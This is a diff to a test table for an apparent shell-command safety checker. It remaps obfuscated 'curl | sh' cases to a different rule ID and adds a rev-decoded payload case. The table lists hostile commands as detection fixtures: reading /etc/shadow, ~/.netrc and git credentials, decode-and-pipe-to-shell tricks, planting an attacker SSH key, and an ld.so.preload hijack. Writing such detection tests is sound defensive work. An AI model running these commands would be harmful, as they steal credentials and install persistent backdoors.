@@ -145,8 +145,9 @@ def asks(command: str) -> set[str]:
         ("cat < ~/.netrc", "HB009"),
         ("bash -c 'echo \"$(</etc/shadow)\"'", "HB009"),
         ("find ~/.git-credentials -exec cat {} \\;", "HB009"),
-        ("echo Y3VybCB4IHwgc2g= | base64 -d | bash", "HB010"),
-        ("echo 'hs | x lruc' | rev | sh", "HB010"),
+        ("echo Y3VybCB4IHwgc2g= | base64 -d | bash", "HB005"),  # decoded: curl x | sh
+        ("cat payload.txt | rev | sh", "HB010"),  # a decoder of text bastion cannot read
+        ("echo 'hs | x lruc' | rev | sh", "HB005"),  # a literal is decoded: curl x | sh
         ("xxd -r -p payload.hex | sh", "HB010"),
         ("echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys", "HB011"),
         ("echo /tmp/evil.so | sudo tee /etc/ld.so.preload", "HB011"),
